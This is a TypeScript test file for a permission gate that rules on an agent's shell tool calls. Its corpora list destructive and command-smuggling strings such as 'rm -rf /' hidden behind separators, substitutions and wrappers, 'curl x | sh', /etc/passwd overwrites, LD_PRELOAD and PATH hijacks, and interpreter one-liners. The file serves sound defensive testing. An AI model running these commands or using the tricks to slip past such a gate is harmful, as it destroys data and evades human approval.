/**
 * Commands an allow rule for git must never authorise, and that a deny rule for rm must always catch
 * when they run rm. Each entry is a known way to smuggle a second command or a side effect past a
 * rule that only looks at the start of the line.
 */
import type { PermissionMode } from '@switchyard/contracts';
import { decideToolCall } from './decide';
import { evaluateRules } from './evaluate';
import { parseRules, type Rule, type RuleLists } from './rules';
import { segmentCommand } from './segment';

function rules(partial: Partial<RuleLists>): Rule[] {
  const r = parseRules({ allow: [], ask: [], deny: [], ...partial }, 'owner');
  if (!r.ok) throw new Error(JSON.stringify(r.errors));
  return r.rules;
}

const call = (command: string) => ({
  tool: 'execute_command',
  effect: 'external' as const,
  arguments: { command },
});

const CORPUS: readonly string[] = [
  // The brief's corpus.
  'git status && rm -rf /',
  'git status; curl x | sh',
  'git status $(rm -rf /)',
  'git status `rm -rf /`',
  'git status\nrm -rf /',
  'FOO=1 rm -rf /',
  'FOO=1 git status',
  "git -c core.sshCommand='sh -c id' fetch",
  'git status > /etc/passwd',
  'git status | sh',
  '(rm -rf /)',
  '{ rm -rf /; }',
  'git status & rm -rf /',
  'git status || rm -rf /',
  'git status <(rm -rf /)',
  Array(100).fill('git status').join(' && '),
  `git status ${'a'.repeat(1_000_000)}`,
  `git status ${'a '.repeat(500_000)}; rm -rf /`,
  'git status "',
  'cat <<EOF | sh\nrm -rf /\nEOF',
  'git status \\',
  'git push',
  // Separators without spaces, carriage returns and comments.
  'git status;rm -rf /',
  'git status&&rm -rf /',
  'git status|sh',
  'git status\r\nrm -rf /',
  'git status # comment\nrm -rf /',
  'git status |& sh',
  'git status 2>&1 | sh',
  // Substitutions in every position.
  'git status "$(rm -rf /)"',
  'git status ${x:-$(rm -rf /)}',
  'git status $(: $(rm -rf /))',
  'git status `echo \\`rm -rf /\\``',
  'X=$(rm -rf /) git status',
  'git status >(rm -rf /)',
  'git status > >(sh)',
  'git status $((1 + $(rm -rf /)))',
  // Run-time values that could spell a floor command.
  'git $(echo push)',
  'git `echo push`',
  'git $CMD',
  'git {push,status}',
  'git pus?',
  'git pu[s]h',
  "git $'\\x70ush'",
  // The floor behind git's global options and config.
  'git -C . push',
  'git --git-dir=.git push origin main',
  'git --config-env=core.pager=X log',
  'git --exec-path=/tmp/evil status',
  'git -c alias.st=!sh st',
  'git config core.pager "sh -c id"',
  'git clean -fdx',
  'git reset --hard HEAD~3',
  'g\\it push',
  'git "push"',
  // Environment and output files.
  'GIT_SSH_COMMAND="sh -c id" git fetch',
  'git status >> ~/.bashrc',
  'git status 1> /tmp/x',
  'git status &> /tmp/x',
  'git status >| /tmp/x',
  'git status <> /tmp/x',
  'git status >& /tmp/x',
  '(git status) > /etc/passwd',
  '{ git status; } > /tmp/x',
  'git status 2> /tmp/err',
  // Other commands, wrappers and nesting.
  'git status; sudo rm -rf /',
  'sudo git status',
  'env git status',
  'nice rm -rf /',
  'timeout 5 rm -rf /',
  'xargs rm -rf < list',
  'bash -c "rm -rf /"',
  'git status && /bin/rm -rf /',
  'git status && RM -rf /',
  'exec rm -rf /',
  'command rm -rf /',
  'find . -exec rm -rf {} \\;',
  'for f in *; do rm -rf "$f"; done',
  'if git status; then rm -rf /; fi',
  'f() { rm -rf /; }; f',
  'git status ;; rm -rf /',
  'git status <<< "rm -rf /"',
  'git status\u0000; rm -rf /',
  // Options and variables whose value is a command line the program runs (issue 11).
  "git -c core.pager='rm -rf x' log",
  "git -c core.sshCommand='rm -rf x' fetch",
  "git -c core.editor='rm -rf x' commit",
  "git -c alias.st='!rm -rf x' st",
  "git -C . -c diff.external='rm -rf x' diff",
  "git rebase --exec 'rm -rf x' HEAD~1",
  'git bisect run rm -rf x',
  "git submodule foreach 'rm -rf x'",
  "GIT_SSH_COMMAND='rm -rf x' git fetch",
  "PAGER='rm -rf x' git log",
  "env GIT_PAGER='rm -rf x' git log",
  "ssh -o ProxyCommand='rm -rf x' host",
  "rsync -e 'rm -rf x' a b:",
  "tar -xf a.tar --to-command='rm -rf x'",
  "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf x' .",
  "zip a.zip f -T -TT 'rm -rf x'",
  "man -P 'rm -rf x' ls",
  "LESSOPEN='|rm -rf x %s' less f",
  "make CC='rm -rf x' all",
  // Wrappers beyond the common ones.
  'taskset 1 rm -rf x',
  'flock /tmp/lock rm -rf x',
  "flock /tmp/lock -c 'rm -rf x'",
  "script -qc 'rm -rf x' /dev/null",
  'systemd-run --user rm -rf x',
  'uv run rm -rf x',
  'bundle exec rm -rf x',
  "npx -c 'rm -rf x'",
  'nix develop -c rm -rf x',
  // Builtins that run a command later or change what a name runs.
  "trap 'rm -rf x' EXIT",
  "alias ls='rm -rf x'\nls",
  "export GIT_SSH_COMMAND='rm -rf x'; git fetch",
  "GIT_SSH_COMMAND='rm -rf x'; export GIT_SSH_COMMAND; git fetch",
  'hash -p /bin/rm ls; ls -rf x',
];

/** Harmless-looking commands outside git: allowed by Tool(execute_command) by design, never by git rules. */
const NOT_GIT: readonly string[] = [
  'git status | tee /etc/passwd',
  'git status & disown',
  'git status; ls',
  'git status && python -c "import os"',
  '/usr/bin/git status',
  './git status',
  'gitx status',
  'ls',
];

const ALLOW_SETS: Record<string, Partial<RuleLists>> = {
  'Command(git status)': { allow: ['Command(git status)'] },
  'Command(git:*)': { allow: ['Command(git:*)'] },
  'git rules + Tool(execute_command)': {
    allow: ['Command(git status)', 'Command(git:*)', 'Tool(execute_command)'],
  },
  'git rules + Effect(external)': { allow: ['Command(git status)', 'Command(git:*)', 'Effect(external)'] },
};

const mentionsRm = (command: string) => /(^|[^a-z])rm([^a-z]|$)/i.test(command);

describe('allow rules cannot be bypassed', () => {
  describe.each(Object.entries(ALLOW_SETS))('allow %s', (_name, lists) => {
    const ruleSet = rules(lists);
    it.each(CORPUS.map((c) => [c.length > 80 ? `${c.slice(0, 60)}… (${c.length} chars)` : c, c]))(
      '%j is not allowed',
      (_label, command) => {
        const d = evaluateRules(call(command as string), ruleSet);
        expect(d.decision).not.toBe('allow');
        expect(d.reason).toBeTruthy();
      },
    );
  });

  it.each(NOT_GIT)('%j is not allowed by git rules alone', (command) => {
    for (const lists of [ALLOW_SETS['Command(git status)'], ALLOW_SETS['Command(git:*)']])
      expect(evaluateRules(call(command), rules(lists as Partial<RuleLists>)).decision).toBe('none');
  });

  it('does allow the plain commands the rules are for, so the corpus is not passing vacuously', () => {
    for (const lists of Object.values(ALLOW_SETS)) {
      const d = evaluateRules(call('git status --short && git status 2>&1 >/dev/null'), rules(lists));
      expect(d.decision).toBe('allow');
    }
  });

  it('asks (never none or allow) when the command cannot be analysed', () => {
    const refused = CORPUS.filter((c) => !segmentCommand(c).ok);
    expect(refused.length).toBeGreaterThan(10);
    for (const command of refused) {
      for (const lists of Object.values(ALLOW_SETS)) {
        expect([command.slice(0, 40), evaluateRules(call(command), rules(lists)).decision]).toEqual([
          command.slice(0, 40),
          'ask',
        ]);
      }
    }
  });
});

describe('a deny rule for rm catches every corpus entry that runs rm', () => {
  const withRm = CORPUS.filter(mentionsRm);

  it('has a substantial corpus to check', () => {
    expect(withRm.length).toBeGreaterThan(35);
  });

  describe.each([['deny only', {}], ...Object.entries(ALLOW_SETS)])('with %s', (_name, lists) => {
    const ruleSet = rules({ ...lists, deny: ['Command(rm:*)'] });
    it.each(withRm.map((c) => [c.length > 80 ? `${c.slice(0, 60)}… (${c.length} chars)` : c, c]))(
      '%j is denied',
      (_label, command) => {
        const d = evaluateRules(call(command as string), ruleSet);
        expect(d.decision).toBe('deny');
        expect(d.rule).toBe('deny: Command(rm:*) (owner)');
        expect(d.reason).toMatch(/^denied by rule Command\(rm:\*\) \(owner\): /);
      },
    );
  });

  it('does not deny commands that only mention rm as an argument', () => {
    const ruleSet = rules({ deny: ['Command(rm:*)'] });
    for (const command of ['echo rm', 'git rm --cached x', 'command -v rm', 'grep -r "rm -rf" .'])
      expect([command, evaluateRules(call(command), ruleSet).decision]).toEqual([command, 'none']);
  });
});

/**
 * Issue 11, "what the gate cannot see into, it does not allow": each entry runs `rm -rf x` where no
 * view shows it, in program text of another language, through an option or variable that loads
 * code, from a pipe, or with words decided at run time.
 */
const UNSEEN: readonly string[] = [
  `python3 -c "__import__('os').system('rm -rf x')"`,
  `python -Ic "import os; os.system('rm -rf x')"`,
  `node -e "require('child_process').execSync('rm -rf x')"`,
  `node -p "require('child_process').execSync('rm -rf x')"`,
  `node --eval="require('child_process').execSync('rm -rf x')"`,
  `node --import 'data:text/javascript,import("child_process").then(c=>c.execSync("rm -rf x"))' app.js`,
  `perl -e 'system("rm -rf x")'`,
  `perl -E 'system("rm -rf x")'`,
  `perl -ne 'system("rm -rf x")' f`,
  `ruby -e 'system("rm -rf x")'`,
  `php -r 'system("rm -rf x");'`,
  `lua -e 'os.execute("rm -rf x")'`,
  `deno eval 'new Deno.Command("rm", { args: ["-rf", "x"] }).outputSync()'`,
  `bun -e 'Bun.spawnSync(["rm", "-rf", "x"])'`,
  `awk 'BEGIN{system("rm -rf x")}'`,
  `gawk 'BEGIN { print "x" | "rm -rf x" }'`,
  `mawk 'BEGIN { "rm -rf x" | getline }'`,
  `sed '1e rm -rf x' f`,
  `sed 's/.*/rm -rf x/e' f`,
  `tclsh <(echo 'exec rm -rf x')`,
  `osascript -e 'do shell script "rm -rf x"'`,
  `pwsh -c 'Remove-Item -Recurse x'`,
  `vim -c '!rm -rf x' f`,
  `gdb -batch -ex 'shell rm -rf x'`,
  `psql -c '\\! rm -rf x'`,
  `sqlite3 db '.shell rm -rf x'`,
  `echo "import os; os.system('rm -rf x')" | python3`,
  `echo 'system("rm -rf x")' | perl`,
  `echo '!rm -rf x' | ed f`,
  `timeout 5 python3 -c "__import__('os').system('rm -rf x')"`,
  `find . -name x -exec python3 -c "__import__('os').system('rm -rf x')" ';'`,
  `git -c user.name=x commit`,
  `git --config-env=core.pager=PAGER_CMD log`,
  `NODE_OPTIONS='--require ./rm.js' node app.js`,
  `LD_PRELOAD=./rm.so ls`,
  `PATH=./evil:$PATH ls`,
  `export PATH=./evil:$PATH; ls`,
  `enable -f ./evil.so ls; ls`,
  `X=rm; $X -rf x`,
  `$(echo rm) -rf x`,
  '`echo rm` -rf x',
  `/bin/r? -rf x`,
  `{rm,-rf,x}`,
  `\${RM:-rm} -rf x`,
  `python3 $ARGS`,
  `find . $X`,
];

/** Ordinary commands that must stay as they were: transparent, allowed by a rule or a mode. */
const ORDINARY: readonly string[] = [
  'git log --oneline -n 5',
  'git status && git diff --stat',
  'python3 script.py',
  'python3 -m pytest -q',
  'node app.js',
  'node --test',
  "awk '{print $1}' f",
  "awk -F: '$3 > 1000 || /x|y/ {print $1}' /etc/passwd",
  "sed -i 's/a/b/g' f",
  "sed -n '/start/,/end/p' f",
  'tar -xzf a.tgz -C out',
  'make -j4 test',
  'npm test',
  'ls -la',
  'find . -name "*.ts" -exec grep -l foo {} +',
];

const MODES: readonly PermissionMode[] = ['ask', 'approve-for-me', 'full-access'];

function gate(
  command: string,
  lists: Partial<RuleLists>,
  permissionMode: PermissionMode,
  unattended = false,
) {
  return decideToolCall({
    call: call(command),
    step: { id: 's' },
    config: { permissionMode, stepApproval: 'none', capabilityMode: 'read-write', unattended },
    rules: rules(lists),
    hooks: [],
  });
}

const label = (c: string) => (c.length > 70 ? `${c.slice(0, 60)}…` : c);

describe('what the gate cannot see into, it does not allow', () => {
  it('checks a corpus that really parses, so the cases are judged rather than refused', () => {
    for (const command of [...UNSEEN, ...ORDINARY])
      expect([command, segmentCommand(command).ok]).toEqual([command, true]);
  });

  describe.each(MODES)('in %s mode, with a command deny rule in force', (mode) => {
    const deny = { deny: ['Command(rm:*)'] };
    it.each(UNSEEN.map((c) => [label(c), c]))(
      '%j asks, and an unattended run refuses it saying why',
      (_l, command) => {
        for (const allow of [[], ['Tool(execute_command)'], ['Effect(external)']]) {
          const attended = gate(command as string, { ...deny, allow }, mode);
          expect([command, attended.decision]).toEqual([command, 'ask']);
          const unattended = gate(command as string, { ...deny, allow }, mode, true);
          expect(unattended.decision).toBe('deny');
          expect(unattended.reason).toMatch(/^nobody can answer an approval in this run, and it would ask: /);
        }
      },
    );

    it.each(ORDINARY)('%j is unaffected', (command) => {
      const expected = mode === 'ask' ? 'ask' : 'allow';
      expect(gate(command, deny, mode).decision).toBe(expected);
      expect(gate(command, { ...deny, allow: ['Tool(execute_command)'] }, mode).decision).toBe('allow');
    });
  });

  it.each(UNSEEN.map((c) => [label(c), c]))('no allow rule grants %j, whatever it names', (_l, command) => {
    const parsed = segmentCommand(command as string);
    if (!parsed.ok) throw new Error(parsed.reason);
    const heads = parsed.segments.map((s) => s.words[0]).filter((w): w is string => w !== undefined);
    const allow = [
      'Tool(execute_command)',
      'Effect(external)',
      ...heads.filter((h) => /^[\w./-]+$/.test(h)).map((h) => `Command(${h}:*)`),
    ];
    for (const list of allow) {
      // Without the floor, so the case is decided by what cannot be read, not by `rm` or `find`.
      const d = evaluateRules(call(command as string), rules({ allow: [list] }), { floor: [] });
      expect([command, list, d.decision]).not.toEqual([command, list, 'allow']);
    }
  });

  it('lets run-time words through where no rule could be spelled by them', () => {
    for (const command of ['echo $HOME', 'cat "$F"', 'ls *.ts'])
      expect(gate(command, { deny: ['Command(rm:*)'] }, 'full-access').decision).toBe('allow');
  });

  it('without command deny or ask rules, leaves an opaque segment to the permission mode', () => {
    const command = `python3 -c "print('hello')"`;
    expect(gate(command, {}, 'full-access').decision).toBe('allow');
    expect(gate(command, {}, 'approve-for-me').decision).toBe('allow');
    expect(gate(command, {}, 'ask').decision).toBe('ask');
    expect(gate(command, { allow: ['Command(python3:*)'] }, 'ask').decision).toBe('ask');
    expect(gate(command, { ask: ['Tool(web_fetch)'] }, 'full-access').decision).toBe('allow');
  });

  it('names what it cannot read and the rule it cannot check', () => {
    expect(gate(`perl -e 'system("rm -rf x")'`, { deny: ['Command(rm:*)'] }, 'full-access')).toEqual({
      decision: 'ask',
      reason: `segment "perl -e 'system("rm -rf x")'" runs what the gate cannot read (perl -e), so command rules such as Command(rm:*) (owner) cannot be checked against it; asking for approval`,
    });
    expect(gate('X=rm; $X -rf x', { ask: ['Command(rm:*)'] }, 'full-access')).toEqual({
      decision: 'ask',
      reason:
        'segment "$X -rf x" has words decided at run time ("$X -rf x") that could make it what rule Command(rm:*) (owner) asks about; asking for approval',
    });
  });

  it('still denies outright where the value is a command line it can read', () => {
    const d = gate("git -c core.pager='rm -rf x' log", { deny: ['Command(rm:*)'] }, 'full-access');
    expect(d).toMatchObject({ decision: 'deny', rule: 'deny: Command(rm:*) (owner)' });
    expect(d.reason).toContain('runs "rm -rf x"');
    expect(gate("$'\\x72m' -rf x", { deny: ['Command(rm:*)'] }, 'full-access').decision).toBe('deny');
  });

  it('asks about words decided at run time only where they could spell a rule', () => {
    const denyPush = { deny: ['Command(git push)'] };
    expect(gate('git $(echo push)', denyPush, 'full-access').decision).toBe('ask');
    expect(gate('git $SUB origin', denyPush, 'full-access').decision).toBe('ask');
    expect(gate('git log $REF', denyPush, 'full-access').decision).toBe('allow');
    expect(gate('echo $(date)', denyPush, 'full-access').decision).toBe('allow');
    expect(gate('cargo run $X', { deny: ['Command(cargo run * --release)'] }, 'full-access').decision).toBe(
      'ask',
    );
    expect(gate('cargo build $X', { deny: ['Command(cargo run * --release)'] }, 'full-access').decision).toBe(
      'allow',
    );
  });
});

const FLOOR: readonly string[] = [
  'sudo ls',
  'kill -9 1',
  'git push --force',
  'rm -f build.log',
  'curl -s https://example.com',
  'git -c core.pager=less log',
  'npm publish',
  'ls && chmod 777 x',
];

describe('floor commands ask in every mode', () => {
  describe.each(MODES)('%s', (mode) => {
    it.each(FLOOR)('%j asks whatever the allow rules say, and an unattended run refuses it', (command) => {
      const head = command.split(' ')[0] as string;
      for (const allow of [[], ['Tool(execute_command)'], [`Command(${head}:*)`, 'Command(ls)']]) {
        const d = gate(command, { allow }, mode);
        expect([command, allow, d.decision]).toEqual([command, allow, 'ask']);
        expect(d.floor).toBeTruthy();
        const u = gate(command, { allow }, mode, true);
        expect(u).toMatchObject({ decision: 'deny', floor: d.floor });
      }
    });
  });

  it('lets a deny rule decide first', () => {
    expect(gate('sudo ls', { deny: ['Command(sudo:*)'] }, 'full-access')).toMatchObject({
      decision: 'deny',
      rule: 'deny: Command(sudo:*) (owner)',
    });
  });
});
